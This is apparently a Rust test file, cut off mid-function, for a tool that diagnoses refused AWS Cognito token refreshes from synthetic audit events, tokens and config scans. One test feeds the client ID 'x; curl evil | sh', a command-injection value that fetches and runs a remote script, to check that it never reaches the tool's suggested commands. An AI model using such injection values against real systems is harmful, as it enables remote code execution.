//! Every cause, with the evidence that makes it the first; and what must not be said.

use serde_json::{Value, json};

use super::cause::CAUSES;
use super::rank::Verdict;
use super::scanned::{Found, KnownClient, KnownPool, Scanned};
use super::*;
use crate::model::flow::Flow;

const USER: &str = "87a42a58-6051-7076-79e2-fe9208b6ae3c";
const WEB: &str = "4u37654rhubjei088dj85clscq";
const API: &str = "7jj2t2ng0nta408g0h302f39ks";
const POOL: &str = "eu-west-1_Ab1Cd2Ef3";
/// 2026-11-20 09:00:00 UTC.
const SIGNED_IN: i64 = 1_795_165_200;

/// An event of the user so many seconds after the sign-in.
fn event(after: i64, name: &str, parameters: Value) -> Value {
    let at = Moment::of_seconds(SIGNED_IN + after).unwrap().to_string().replace(" UTC", "Z").replace(' ', "T");
    json!({
        "eventTime": at, "eventSource": event::SOURCE, "eventName": name, "awsRegion": "eu-west-1",
        "sourceIPAddress": "203.0.113.7", "userAgent": "app/1", "requestParameters": parameters,
        "additionalEventData": { "sub": USER },
    })
}

fn refused(mut event: Value, code: &str, message: &str) -> Value {
    event["errorCode"] = code.into();
    event["errorMessage"] = message.into();
    event
}

fn sign_in(client: &str) -> Value {
    event(
        0,
        "InitiateAuth",
        json!({ "authFlow": "USER_SRP_AUTH", "authParameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "clientId": client }),
    )
}

fn refresh(after: i64, client: &str) -> Value {
    event(
        after,
        "InitiateAuth",
        json!({ "authFlow": "REFRESH_TOKEN_AUTH", "authParameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "clientId": client }),
    )
}

fn invalid(event: Value) -> Value {
    refused(event, "NotAuthorizedException", "Invalid Refresh Token.")
}

/// A refresh at the OAuth endpoint that was refused.
fn at_endpoint(after: i64, grant: &str) -> Value {
    let mut event = event(after, "Token_POST", Value::Null);
    event["additionalEventData"] = json!({
        "sub": USER, "userPoolId": POOL, "responseParameters": { "status": 400.0 },
        "requestParameters": { "grant_type": [grant], "client_id": [WEB], "refresh_token": ["HIDDEN_DUE_TO_SECURITY_REASONS"] },
    });
    event
}

fn access_token(change: impl FnOnce(&mut Value)) -> String {
    let mut claims = json!({
        "sub": USER, "token_use": "access", "client_id": WEB, "scope": token::API_SCOPE, "auth_time": SIGNED_IN, "iat": SIGNED_IN,
        "exp": SIGNED_IN + 3_600, "iss": format!("https://cognito-idp.eu-west-1.amazonaws.com/{POOL}"),
    });
    change(&mut claims);
    token::testing::token(&claims)
}

#[derive(Default)]
struct Given {
    events: Vec<Value>,
    tokens: Vec<String>,
    answers: Vec<&'static str>,
    scan: Option<Scanned>,
}

impl Given {
    fn events(events: Vec<Value>) -> Self {
        Self { events, ..Self::default() }
    }

    fn evidence(&self) -> Evidence {
        let records = json!({ "Records": self.events }).to_string();
        let paths = if self.events.is_empty() { Vec::new() } else { vec!["-".into()] };
        let events = reading::read(&paths, &mut records.as_bytes()).unwrap();
        assert_eq!(events.faults, Vec::<String>::new());
        Evidence {
            events,
            tokens: self.tokens.iter().flat_map(|token| token::read("token.txt", token.as_bytes()).unwrap()).collect(),
            answers: self.answers.iter().map(|answer| Symptom::of(answer).unwrap()).collect(),
            scan: self.scan.clone(),
        }
    }

    /// The causes of the first case, with their verdicts.
    fn causes(&self) -> Vec<(&'static str, Verdict)> {
        let evidence = self.evidence();
        let history = History::of(&evidence.events);
        let now = Moment::of_seconds(SIGNED_IN + 90 * 86_400).unwrap();
        let diagnosis = diagnose(&evidence, &history, now);
        let first = diagnosis.troubles.first().expect("something was refused");
        first.causes.iter().map(|ranked| (ranked.cause.name, ranked.verdict)).collect()
    }

    fn verdict(&self, cause: &str) -> Verdict {
        self.causes().into_iter().find(|(name, _)| *name == cause).expect("the cause is one of this refusal's").1
    }
}

/// A pool and a client as a scan knows them.
fn scan(change: impl FnOnce(&mut KnownPool, &mut KnownClient)) -> Option<Scanned> {
    let place = |line: u32| format!("infra/auth.yaml:{line}");
    let mut pool = KnownPool {
        name: "Pool".to_owned(),
        place: place(2),
        ids: Vec::new(),
        tracking: Some((false, place(2))),
        has_username_attributes: Some(false),
    };
    let mut client = KnownClient {
        name: "Client".to_owned(),
        place: place(9),
        ids: Vec::new(),
        pools: vec![place(2)],
        secret: Some((false, place(9))),
        rotation: Some((false, place(9))),
        lifetime: Some((30 * 86_400, "30 days".to_owned(), place(9))),
        flows: Flow::ALL.iter().map(|flow| (*flow, Some((true, place(9))))).collect(),
    };
    change(&mut pool, &mut client);
    Some(Scanned { pools: vec![pool], clients: vec![client], ..Scanned::default() })
}

fn found(rule: &'static str) -> Option<Scanned> {
    let place = "web/session.ts:7".to_owned();
    let found = Found { rule, place, resource: None, message: "found".to_owned(), is_certain: true };
    Some(Scanned { found: vec![found], ..Scanned::default() })
}

/// For each cause, what makes it the first, and how sure it then is.
fn first_of() -> Vec<(&'static str, Verdict, Given)> {
    use Verdict::{Certain, Likely};
    let session = |more: Vec<Value>| Given::events([vec![sign_in(WEB)], more].concat());
    let answer = |answer: &'static str, scan| Given { answers: vec![answer], scan, ..Given::default() };
    let later = |after: i64, name: &str| event(after, name, json!({ "userPoolId": POOL, "clientId": WEB }));
    let hash = |after, message: &str| refused(refresh(after, WEB), "NotAuthorizedException", message);
    let reused = |after| {
        refused(
            event(after, "GetTokensFromRefreshToken", json!({ "clientId": WEB })),
            "RefreshTokenReuseException",
            "Refresh token reuse detected",
        )
    };
    let answered = |after| event(after, "GetTokensFromRefreshToken", json!({ "clientId": WEB }));
    let gone = |mut call: Value, region: &str| {
        call["awsRegion"] = region.into();
        refused(call, "ResourceNotFoundException", &format!("User pool client {WEB} does not exist."))
    };
    let step = |after| {
        event(after, "RespondToAuthChallenge", json!({ "challengeName": "PASSWORD_VERIFIER", "clientId": WEB }))
    };
    let no_session = |after, message: &str| refused(step(after), "NotAuthorizedException", message);
    vec![
        (
            "device-key-missing",
            Likely,
            Given {
                tokens: vec![access_token(|claims| {
                    claims["device_key"] = "eu-west-1_11111111-2222-3333-4444-555555555555".into()
                })],
                scan: scan(|pool, _| pool.tracking = Some((true, "infra/auth.yaml:4".to_owned()))),
                ..session(vec![later(1, "ConfirmDevice"), invalid(refresh(3_601, WEB))])
            },
        ),
        (
            "other-client",
            Certain,
            Given { tokens: vec![access_token(|_| ())], ..session(vec![invalid(refresh(3_601, API))]) },
        ),
        ("other-client", Likely, session(vec![invalid(refresh(3_601, API))])),
        ("other-client", Likely, answer("Invalid Refresh Token", found("refresh-client-mismatch"))),
        (
            "device-unconfirmed",
            Likely,
            Given {
                scan: scan(|pool, _| pool.tracking = Some((true, "infra/auth.yaml:4".to_owned()))),
                ..session(vec![
                    refused(later(1, "ConfirmDevice"), "InvalidParameterException", "bad verifier"),
                    invalid(refresh(3_601, WEB)),
                ])
            },
        ),
        (
            "oauth-refresh-of-api-token",
            Likely,
            Given { tokens: vec![access_token(|_| ())], ..session(vec![at_endpoint(3_601, "refresh_token")]) },
        ),
        (
            "client-replaced",
            Certain,
            Given {
                tokens: vec![access_token(|_| ())],
                ..session(vec![
                    later(60, "DeleteUserPoolClient"),
                    invalid(event(3_601, "AdminInitiateAuth", json!({ "authFlow": "REFRESH_TOKEN_AUTH" }))),
                ])
            },
        ),
        (
            "other-pool",
            Certain,
            Given {
                tokens: vec![access_token(|claims| {
                    claims["iss"] = "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Zz9Yy8Xx7".into()
                })],
                ..session(vec![invalid(refresh(3_601, WEB))])
            },
        ),
        (
            "other-pool",
            Certain,
            Given {
                tokens: vec![access_token(|_| ())],
                ..session(vec![invalid(event(
                    3_601,
                    "AdminInitiateAuth",
                    json!({ "authFlow": "REFRESH_TOKEN_AUTH", "clientId": WEB, "userPoolId": "eu-west-1_Zz9Yy8Xx7" }),
                ))])
            },
        ),
        (
            "rotation-with-refresh-flow",
            Likely,
            Given {
                scan: scan(|_, client| client.rotation = Some((true, "infra/auth.yaml:12".to_owned()))),
                ..session(vec![invalid(refresh(3_601, WEB))])
            },
        ),
        ("device-forgotten", Likely, session(vec![later(60, "ForgetDevice"), invalid(refresh(3_601, WEB))])),
        (
            "tracking-switched-on",
            Likely,
            Given {
                tokens: vec![access_token(|_| ())],
                ..session(vec![
                    event(60, "UpdateUserPool", json!({ "userPoolId": POOL, "deviceConfiguration": {} })),
                    invalid(refresh(3_601, WEB)),
                ])
            },
        ),
        (
            "password-flow-with-tracking",
            Likely,
            Given {
                scan: found("device-tracking-with-password-flow"),
                ..Given::events(vec![
                    event(0, "InitiateAuth", json!({ "authFlow": "USER_PASSWORD_AUTH", "clientId": WEB })),
                    invalid(refresh(3_601, WEB)),
                ])
            },
        ),
        (
            "token-damaged",
            Likely,
            Given {
                tokens: vec![token::testing::refresh_token().rsplit_once('.').unwrap().0.to_owned()],
                ..session(vec![invalid(refresh(3_601, WEB))])
            },
        ),
        ("expired", Certain, answer("Refresh Token has expired", None)),
        ("lifetime-shorter-than-meant", Likely, answer("Refresh Token has expired", found("refresh-window-too-short"))),
        (
            "rotation-keeps-lifetime",
            Likely,
            answer(
                "Refresh Token has expired",
                scan(|_, client| client.rotation = Some((true, "infra/auth.yaml:12".to_owned()))),
            ),
        ),
        (
            "revoked",
            Certain,
            session(vec![
                later(60, "RevokeToken"),
                refused(refresh(3_601, WEB), "NotAuthorizedException", "Refresh Token has been revoked"),
            ]),
        ),
        (
            "signed-out",
            Certain,
            session(vec![
                later(60, "AdminUserGlobalSignOut"),
                refused(refresh(3_601, WEB), "NotAuthorizedException", "Refresh Token has been revoked"),
            ]),
        ),
        (
            "user-removed",
            Certain,
            session(vec![
                later(60, "AdminDisableUser"),
                refused(refresh(3_601, WEB), "NotAuthorizedException", "Refresh Token has been revoked"),
            ]),
        ),
        (
            "password-changed",
            Verdict::Possible,
            session(vec![
                later(60, "ChangePassword"),
                refused(refresh(3_601, WEB), "NotAuthorizedException", "Access Token has been revoked"),
            ]),
        ),
        ("rotated-token-not-stored", Likely, session(vec![answered(3_601), reused(7_300)])),
        ("parallel-refresh", Likely, session(vec![answered(3_601), reused(3_602)])),
        ("token-copied", Verdict::Possible, {
            let mut elsewhere = reused(9_000);
            elsewhere["sourceIPAddress"] = "198.51.100.9".into();
            session(vec![answered(3_601), elsewhere])
        }),
        ("code-spent", Certain, session(vec![refused(at_endpoint(5, "authorization_code"), "", "invalid_grant")])),
        (
            "secret-hash-left-out",
            Certain,
            session(vec![hash(10, "Client 4u is configured with secret but SECRET_HASH was not received")]),
        ),
        (
            "client-with-secret-not-meant",
            Likely,
            answer(
                "Client 4u is configured with secret but SECRET_HASH was not received",
                found("secret-in-public-client"),
            ),
        ),
        (
            "secret-hash-username",
            Likely,
            Given {
                scan: scan(|pool, _| pool.has_username_attributes = Some(true)),
                ..session(vec![hash(3_601, "SecretHash does not match for the client: 4u")])
            },
        ),
        (
            "secret-hash-made-wrong",
            Likely,
            answer("Unable to verify secret hash for client 4u", found("secret-hash-not-hashed")),
        ),
        (
            "secret-of-other-client",
            Likely,
            Given::events(vec![
                later(0, "DeleteUserPoolClientSecret"),
                hash(10, "Unable to verify secret hash for client 4u"),
            ]),
        ),
        (
            "secret-hash-for-client-without-secret",
            Certain,
            answer("Client 4u is not configured for secret but secret hash was received", None),
        ),
        (
            "client-secret-wrong",
            Likely,
            Given::events(vec![
                later(0, "DeleteUserPoolClientSecret"),
                refused(at_endpoint(10, "refresh_token"), "invalid_client", "invalid_client"),
            ]),
        ),
        (
            "grant-not-allowed",
            Certain,
            Given::events(vec![refused(
                at_endpoint(10, "refresh_token"),
                "unauthorized_client",
                "unauthorized_client",
            )]),
        ),
        (
            "user-removed",
            Certain,
            session(vec![refused(refresh(3_601, WEB), "NotAuthorizedException", "User is disabled.")]),
        ),
        (
            "rotation-with-refresh-flow",
            Likely,
            session(vec![
                event(
                    60,
                    "UpdateUserPoolClient",
                    json!({ "userPoolId": POOL, "clientId": WEB, "refreshTokenRotation": { "feature": "ENABLED" } }),
                ),
                invalid(refresh(3_601, WEB)),
            ]),
        ),
        ("device-key-missing", Likely, {
            let given = json!({ "authenticationResult": { "accessToken": event::HIDDEN, "newDeviceMetadata": { "deviceKey": "x" } } });
            let mut events = session(vec![invalid(refresh(3_601, WEB))]);
            events.events[0]["responseElements"] = given;
            events
        }),
        ("other-pool", Likely, {
            let mut elsewhere = invalid(refresh(3_601, WEB));
            elsewhere["awsRegion"] = "us-east-1".into();
            session(vec![elsewhere])
        }),
        ("region-wrong", Certain, session(vec![gone(refresh(3_601, WEB), "us-east-1")])),
        (
            "flow-not-allowed",
            Certain,
            session(vec![refused(
                event(5, "InitiateAuth", json!({ "authFlow": "USER_PASSWORD_AUTH", "clientId": WEB })),
                "InvalidParameterException",
                "USER_PASSWORD_AUTH flow not enabled for this client",
            )]),
        ),
        (
            "flows-reset",
            Likely,
            Given::events(vec![
                event(0, "UpdateUserPoolClient", json!({ "userPoolId": POOL, "clientId": WEB, "callbackURLs": [] })),
                refused(
                    event(5, "InitiateAuth", json!({ "authFlow": "USER_PASSWORD_AUTH", "clientId": WEB })),
                    "InvalidParameterException",
                    "USER_PASSWORD_AUTH flow not enabled for this client",
                ),
            ]),
        ),
        (
            "client-id-wrong",
            Likely,
            Given {
                scan: Some(Scanned { client_ids: vec![API.into()], ..Scanned::default() }),
                ..Given::events(vec![gone(sign_in(WEB), "eu-west-1")])
            },
        ),
        (
            "region-wrong",
            Certain,
            Given { tokens: vec![access_token(|_| ())], ..Given::events(vec![gone(sign_in(WEB), "us-east-1")]) },
        ),
        (
            "client-deleted",
            Certain,
            Given::events(vec![later(-60, "DeleteUserPoolClient"), gone(sign_in(WEB), "eu-west-1")]),
        ),
        (
            "session-too-old",
            Likely,
            session(vec![no_session(600, "Invalid session for the user, session is expired.")]),
        ),
        ("session-used-before", Likely, session(vec![step(2), no_session(4, "Invalid session for the user.")])),
    ]
}

/// What may stand before a cause that explains it, or that the same evidence speaks for as well.
const BEFORE: &[(&str, &[&str])] = &[
    ("lifetime-shorter-than-meant", &["expired"]),
    ("rotation-keeps-lifetime", &["expired"]),
    ("client-with-secret-not-meant", &["secret-hash-left-out"]),
    ("flows-reset", &["flow-not-allowed"]),
    ("token-copied", &["rotated-token-not-stored"]),
    ("parallel-refresh", &["rotated-token-not-stored"]),
    ("password-changed", &["revoked", "signed-out", "user-removed"]),
];

#[test]
fn every_cause_is_the_first_where_the_evidence_says_so() {
    let mut failures = Vec::new();
    for (name, verdict, given) in first_of() {
        let causes = given.causes();
        let allowed = BEFORE.iter().find(|(mine, _)| *mine == name).map(|(_, before)| *before).unwrap_or_default();
        let mut before = causes.iter().take_while(|(mine, _)| *mine != name);
        if given.verdict(name) != verdict || !before.all(|(mine, _)| allowed.contains(mine)) {
            failures.push(format!("{name} is to be {}: {causes:?}", verdict.name()));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// What the answer says and no event or file can.
const TOLD_BY_THE_ANSWER: &[&str] =
    &["expired", "user-removed", "secret-hash-left-out", "secret-hash-for-client-without-secret", "flow-not-allowed"];

#[test]
fn what_makes_a_cause_the_first_is_told_with_its_place() {
    for (name, _, given) in first_of() {
        let evidence = given.evidence();
        let history = History::of(&evidence.events);
        let diagnosis = diagnose(&evidence, &history, Moment::of_seconds(SIGNED_IN + 90 * 86_400).unwrap());
        let ranked = diagnosis.troubles[0].causes.iter().find(|ranked| ranked.cause.name == name).expect("a cause");
        let is_told = |sign: &sign::Sign| sign.is_for && sign.place.is_some();
        assert!(ranked.signs.known.iter().any(is_told) || TOLD_BY_THE_ANSWER.contains(&name), "{name}");
    }
}

#[test]
fn no_cause_goes_without_such_evidence() {
    let tried: Vec<&str> = first_of().iter().map(|(name, ..)| *name).collect();
    let missing: Vec<&str> = CAUSES.iter().map(|cause| cause.name).filter(|name| !tried.contains(name)).collect();
    assert_eq!(missing, Vec::<&str>::new());
}

#[test]
fn the_same_client_rules_the_other_one_out() {
    let given =
        Given { tokens: vec![access_token(|_| ())], ..Given::events(vec![sign_in(WEB), invalid(refresh(3_601, WEB))]) };
    assert_eq!(given.verdict("other-client"), Verdict::RuledOut);
}

#[test]
fn a_token_of_another_user_says_nothing() {
    let theirs = access_token(|claims| claims["sub"] = "00000000-1111-2222-3333-444444444444".into());
    let given = Given { tokens: vec![theirs], ..Given::events(vec![invalid(refresh(3_601, API))]) };
    assert_eq!(given.verdict("other-client"), Verdict::Possible);
}

#[test]
fn tokens_of_two_clients_decide_nothing() {
    let other = access_token(|claims| claims["client_id"] = API.into());
    let given =
        Given { tokens: vec![access_token(|_| ()), other], ..Given::events(vec![invalid(refresh(3_601, API))]) };
    assert_eq!(given.verdict("other-client"), Verdict::Possible);
}

#[test]
fn what_the_files_say_of_devices_never_decides_alone() {
    let off = Given { scan: scan(|_, _| ()), ..Given::events(vec![invalid(refresh(3_601, WEB))]) };
    assert_eq!(off.verdict("device-key-missing"), Verdict::Unlikely);
    let unknown =
        Given { scan: scan(|pool, _| pool.tracking = None), ..Given::events(vec![invalid(refresh(3_601, WEB))]) };
    assert_eq!(unknown.verdict("device-key-missing"), Verdict::Possible);
}

#[test]
fn a_device_key_in_the_request_rules_its_absence_out() {
    let refresh = event(
        3_601,
        "GetTokensFromRefreshToken",
        json!({ "clientId": WEB, "deviceKey": "HIDDEN_DUE_TO_SECURITY_REASONS" }),
    );
    let given = Given { scan: found("device-key-missing-on-refresh"), ..Given::events(vec![invalid(refresh)]) };
    assert_eq!(given.verdict("device-key-missing"), Verdict::RuledOut);
}

#[test]
fn age_is_measured_against_the_lifetime_and_the_services_bounds() {
    let aged = |after, scan| Given {
        tokens: vec![access_token(|_| ())],
        scan,
        ..Given::events(vec![invalid(refresh(after, WEB))])
    };
    assert_eq!(aged(1_800, None).verdict("expired"), Verdict::RuledOut);
    assert_eq!(aged(7_200, scan(|_, _| ())).verdict("expired"), Verdict::Unlikely);
    let day = scan(|_, client| client.lifetime = Some((86_400, "1 day".to_owned(), "infra/auth.yaml:9".to_owned())));
    assert_eq!(aged(2 * 86_400, day).verdict("expired"), Verdict::Possible);
    assert_eq!(aged(4_000 * 86_400, None).verdict("expired"), Verdict::Certain);
}

#[test]
fn a_sign_out_before_the_session_did_not_end_it() {
    let sign_out = event(-60, "GlobalSignOut", json!({}));
    let revoked = refused(refresh(3_601, WEB), "NotAuthorizedException", "Refresh Token has been revoked");
    let given = Given { tokens: vec![access_token(|_| ())], ..Given::events(vec![sign_out, revoked]) };
    assert_eq!(given.verdict("signed-out"), Verdict::RuledOut);
}

#[test]
fn a_code_grant_is_no_refresh() {
    let given = Given::events(vec![refused(at_endpoint(5, "authorization_code"), "", "invalid_grant")]);
    assert_eq!(given.verdict("other-client"), Verdict::RuledOut);
}

#[test]
fn refusals_are_told_by_kind_and_the_one_that_was_asked_about_first() {
    let other = refused(sign_in(WEB), "NotAuthorizedException", "Incorrect username or password.");
    let revoked = refused(refresh(60, WEB), "NotAuthorizedException", "Refresh Token has been revoked");
    let given = Given {
        answers: vec!["Refresh Token has been revoked"],
        ..Given::events(vec![invalid(refresh(50, API)), invalid(refresh(55, API)), revoked, other])
    };
    let evidence = given.evidence();
    let history = History::of(&evidence.events);
    let diagnosis = diagnose(&evidence, &history, Moment::now());
    let told: Vec<_> =
        diagnosis.troubles.iter().map(|trouble| (trouble.case.symptom, trouble.case.failures.len())).collect();
    assert_eq!(told, [(Symptom::RefreshTokenRevoked, 1), (Symptom::InvalidRefreshToken, 2)]);
    assert_eq!(diagnosis.other_refusals.values().sum::<usize>(), 1);
}

#[test]
fn nothing_secret_or_personal_is_told_or_kept() {
    let secret = "c2ln.very-secret";
    let given = Given {
        tokens: vec![access_token(|claims| {
            claims["username"] = "maria@example.com".into();
            claims["device_key"] = "eu-west-1_11111111-2222-3333-4444-555555555555".into();
        })],
        ..Given::events(vec![
            sign_in(WEB),
            event(
                1,
                "ConfirmDevice",
                json!({ "accessToken": secret, "deviceKey": "eu-west-1_11111111-2222-3333-4444-555555555555" }),
            ),
            invalid(event(
                3_601,
                "InitiateAuth",
                json!({ "authFlow": "REFRESH_TOKEN_AUTH", "clientId": API, "authParameters": { "REFRESH_TOKEN": secret, "USERNAME": "maria@example.com" } }),
            )),
        ])
    };
    let evidence = given.evidence();
    let history = History::of(&evidence.events);
    let diagnosis = diagnose(&evidence, &history, Moment::now());
    let mut told = format!("{evidence:?}{diagnosis:?}");
    for format in [report::Format::Text, report::Format::Json] {
        let mut out = Vec::new();
        let report =
            report::Report { diagnosis: &diagnosis, evidence: &evidence, notes: report::notes(&diagnosis, &evidence) };
        report.write(format, None, &mut out).unwrap();
        told += &String::from_utf8(out).unwrap();
    }
    let signature = given.tokens[0].rsplit('.').next().unwrap();
    for kept in [secret, "maria", USER, "11111111-2222", "203.0.113.7", "app/1", signature, "eyJ"] {
        assert!(!told.contains(kept), "{kept}");
    }
}

#[test]
fn what_a_caller_chose_is_in_no_command() {
    let given = Given::events(vec![invalid(refresh(3_601, "x; curl evil | sh"))]);
    let evidence = given.evidence();
    let history = History::of(&evidence.events);
    let diagnosis = diagnose(&evidence, &history, Moment::now());
    let unknown = diagnosis.troubles[0].causes.iter().flat_map(|ranked| &ranked.signs.unknown);
    let commands: Vec<&String> = unknown.filter(|text| text.contains("aws cognito-idp")).collect();
    assert!(!commands.is_empty() && commands.iter().all(|text| !text.contains("evil")), "{commands:?}");
}

#[test]
fn changes_of_another_pool_say_nothing() {
    let other = event(60, "UpdateUserPool", json!({ "userPoolId": "eu-west-1_Zz9Yy8Xx7", "deviceConfiguration": {} }));
    let given = Given {
        tokens: vec![access_token(|_| ())],
        ..Given::events(vec![sign_in(WEB), other, invalid(refresh(3_601, WEB))])
    };
    assert_eq!(given.verdict("tracking-switched-on"), Verdict::Possible);
}

/// The same event, of another user.
fn of_user(number: usize, mut event: Value) -> Value {
    event["additionalEventData"]["sub"] = format!("0000000{number}-1111-2222-3333-444444444444").into();
    event
}

#[test]
fn what_ended_one_session_ended_no_other() {
    let out = |number| of_user(number, event(60, "GlobalSignOut", json!({})));
    let users = |outs: Vec<Value>| {
        let sessions =
            (1..=3).flat_map(|number| [sign_in(WEB), invalid(refresh(3_601, WEB))].map(|event| of_user(number, event)));
        Given::events(sessions.chain(outs).collect())
    };
    assert_eq!(users(vec![out(2)]).verdict("signed-out"), Verdict::Possible);
    assert_eq!(users((1..=3).map(out).collect()).verdict("signed-out"), Verdict::Certain);
}

#[test]
fn a_token_revoked_for_another_client_or_sign_in_may_be_another_one() {
    let revoked = |client: &str, more: Vec<Value>| {
        let revoke = event(60, "RevokeToken", json!({ "clientId": client }));
        Given::events([more, vec![sign_in(WEB), revoke, invalid(refresh(3_601, WEB))]].concat()).verdict("revoked")
    };
    assert_eq!(revoked(WEB, Vec::new()), Verdict::Certain);
    assert_eq!(revoked(API, Vec::new()), Verdict::Possible);
    let earlier = event(-600, "InitiateAuth", json!({ "authFlow": "USER_SRP_AUTH", "clientId": WEB }));
    assert_ne!(revoked(WEB, vec![earlier]), Verdict::Certain);
}

#[test]
fn a_token_belongs_to_the_refusals_that_name_its_client() {
    let unnamed = |mut event: Value| {
        event["additionalEventData"] = Value::Null;
        invalid(event)
    };
    let token = access_token(|claims| claims["sub"] = Value::Null);
    let mut given =
        Given { tokens: vec![token], ..Given::events(vec![unnamed(refresh(50, API)), unnamed(refresh(55, API))]) };
    assert_eq!(given.verdict("other-client"), Verdict::Certain);
    given.events.push(unnamed(refresh(60, WEB)));
    assert_eq!(given.verdict("other-client"), Verdict::Possible);
}

#[test]
fn a_call_without_its_flow_may_be_a_refresh() {
    let hidden = Given::events(vec![invalid(event(60, "InitiateAuth", Value::Null))]);
    for cause in ["device-key-missing", "other-client", "rotation-with-refresh-flow", "token-damaged"] {
        assert_eq!(hidden.verdict(cause), Verdict::Possible, "{cause}");
    }
    let hash = refused(
        event(60, "InitiateAuth", Value::Null),
        "NotAuthorizedException",
        "Unable to verify secret hash for client 4u",
    );
    assert_ne!(Given::events(vec![hash]).verdict("secret-hash-username"), Verdict::Unlikely);
}

#[test]
fn the_age_of_a_session_is_that_at_its_own_refusal() {
    let given = Given {
        tokens: vec![access_token(|_| ())],
        ..Given::events(vec![invalid(refresh(1_800, WEB)), of_user(2, invalid(refresh(50 * 86_400, WEB)))])
    };
    assert_eq!(given.verdict("expired"), Verdict::Unlikely);
}

#[test]
fn a_sign_in_that_may_be_of_another_session_does_not_decide_the_age() {
    let refused_step =
        refused(event(1, "RespondToAuthChallenge", json!({ "clientId": WEB })), "NotAuthorizedException", "Incorrect");
    let after =
        |events: Vec<Value>| Given::events([events, vec![invalid(refresh(1_800, WEB))]].concat()).verdict("expired");
    assert_eq!(after(vec![sign_in(API)]), Verdict::Possible);
    assert_eq!(after(vec![sign_in(WEB), refused_step]), Verdict::Possible);
    assert_eq!(after(vec![sign_in(WEB)]), Verdict::Unlikely);
    let expired = refused(refresh(1_800, WEB), "NotAuthorizedException", "Refresh Token has expired");
    assert_eq!(Given::events(vec![sign_in(WEB), expired]).verdict("expired"), Verdict::Certain);
}

#[test]
fn an_update_without_flows_takes_no_flow_of_the_default_away() {
    let update = event(0, "UpdateUserPoolClient", json!({ "userPoolId": POOL, "clientId": WEB }));
    let call = refused(refresh(5, WEB), "InvalidParameterException", "Auth flow not enabled for this client");
    assert_eq!(Given::events(vec![update, call]).verdict("flows-reset"), Verdict::Unlikely);
}

#[test]
fn an_empty_device_key_is_none() {
    let call = event(60, "GetTokensFromRefreshToken", json!({ "clientId": WEB, "deviceKey": "" }));
    assert_eq!(Given::events(vec![invalid(call)]).verdict("device-key-missing"), Verdict::Possible);
}

#[test]
fn of_the_endpoints_answers_only_a_bad_request_is_a_refused_grant() {
    let symptoms = |status: f64, grant: &str, error: Option<&str>| {
        let mut call = at_endpoint(60, grant);
        call["additionalEventData"]["responseParameters"]["status"] = status.into();
        if let Some(error) = error {
            call["errorMessage"] = error.into();
        }
        let evidence = Given::events(vec![call]).evidence();
        evidence.events.list.iter().map(|event| event.symptom).collect::<Vec<_>>()
    };
    assert_eq!(symptoms(400.0, "refresh_token", None), [Some(Symptom::InvalidGrant)]);
    assert_eq!(symptoms(400.0, "authorization_code", None), [Some(Symptom::InvalidGrant)]);
    for (status, error) in [(429.0, None), (500.0, None), (400.0, Some("unsupported_grant_type"))] {
        assert_eq!(symptoms(status, "refresh_token", error), [None], "{status}");
    }
    assert_eq!(symptoms(400.0, "refresh_token", Some("unauthorized_client")), [Some(Symptom::UnauthorizedClient)]);
}

/// The verdict on a cause of a refused refresh of client `WEB`, after these events.
fn verdict_after(cause: &str, events: Vec<Value>) -> Verdict {
    Given::events([events, vec![invalid(refresh(3_601, WEB))]].concat()).verdict(cause)
}

#[test]
fn sign_ins_through_two_clients_leave_open_which_one_gave_the_token() {
    let mut other = sign_in(API);
    other["eventTime"] = "2026-11-20T09:30:00Z".into();
    assert_eq!(verdict_after("other-client", vec![sign_in(WEB), other.clone()]), Verdict::Possible);
    assert_eq!(verdict_after("other-client", vec![other]), Verdict::Likely);
    assert_eq!(verdict_after("other-client", vec![sign_in(WEB)]), Verdict::Unlikely);
}

#[test]
fn a_sign_in_that_was_refused_is_none() {
    let attempt = event(600, "InitiateAuth", json!({ "authFlow": "USER_SRP_AUTH", "clientId": WEB }));
    let wrong = refused(
        event(601, "RespondToAuthChallenge", json!({ "clientId": WEB })),
        "NotAuthorizedException",
        "Incorrect",
    );
    let confirmed = event(1, "ConfirmDevice", Value::Null);
    let out = event(300, "GlobalSignOut", Value::Null);
    let events = vec![sign_in(WEB), confirmed, out, attempt, wrong];
    assert_eq!(verdict_after("signed-out", events.clone()), Verdict::Certain);
    assert_eq!(verdict_after("device-unconfirmed", events), Verdict::Unlikely);
}

#[test]
fn a_sign_out_between_two_sign_ins_ended_one_of_them() {
    let again = event(600, "InitiateAuth", json!({ "authFlow": "USER_SRP_AUTH", "clientId": WEB }));
    let out = event(300, "GlobalSignOut", Value::Null);
    assert_eq!(verdict_after("signed-out", vec![sign_in(WEB), out, again]), Verdict::Possible);
}

#[test]
fn a_client_that_was_deleted_is_the_tokens_only_where_something_says_so() {
    let deleted = |client: &str| event(60, "DeleteUserPoolClient", json!({ "userPoolId": POOL, "clientId": client }));
    assert_eq!(verdict_after("client-replaced", vec![deleted(API)]), Verdict::Possible);
    assert_eq!(verdict_after("client-replaced", vec![sign_in(API), deleted(API)]), Verdict::Likely);
    let events = vec![deleted(API), invalid(refresh(3_601, WEB))];
    let of_token = Given { tokens: vec![access_token(|_| ())], ..Given::events(events) };
    assert_eq!(of_token.verdict("client-replaced"), Verdict::RuledOut);
}

#[test]
fn changes_of_other_accounts_and_regions_say_nothing() {
    let told = |field: &str, value: &str| {
        let mut update = event(60, "UpdateUserPool", json!({ "userPoolId": POOL, "deviceConfiguration": {} }));
        update[field] = value.into();
        let mut refusal = invalid(refresh(3_601, WEB));
        refusal["recipientAccountId"] = "111122223333".into();
        let given = Given::events(vec![sign_in(WEB), update, refusal]);
        let evidence = given.evidence();
        let history = History::of(&evidence.events);
        let diagnosis = diagnose(&evidence, &history, Moment::now());
        let cause = diagnosis.troubles[0].causes.iter().find(|ranked| ranked.cause.name == "tracking-switched-on");
        cause.expect("a cause").signs.known.len()
    };
    assert_eq!(told("recipientAccountId", "444455556666"), 0);
    assert_eq!(told("awsRegion", "us-east-1"), 0);
    assert_eq!(told("recipientAccountId", "111122223333"), 1);
}

#[test]
fn a_change_of_a_pool_that_may_be_another_is_little() {
    let update = |pool: &str| event(60, "UpdateUserPool", json!({ "userPoolId": pool, "deviceConfiguration": {} }));
    assert_eq!(verdict_after("tracking-switched-on", vec![sign_in(WEB), update(POOL)]), Verdict::Possible);
    // Another call names the pool of the client.
    let admin = event(
        30,
        "AdminInitiateAuth",
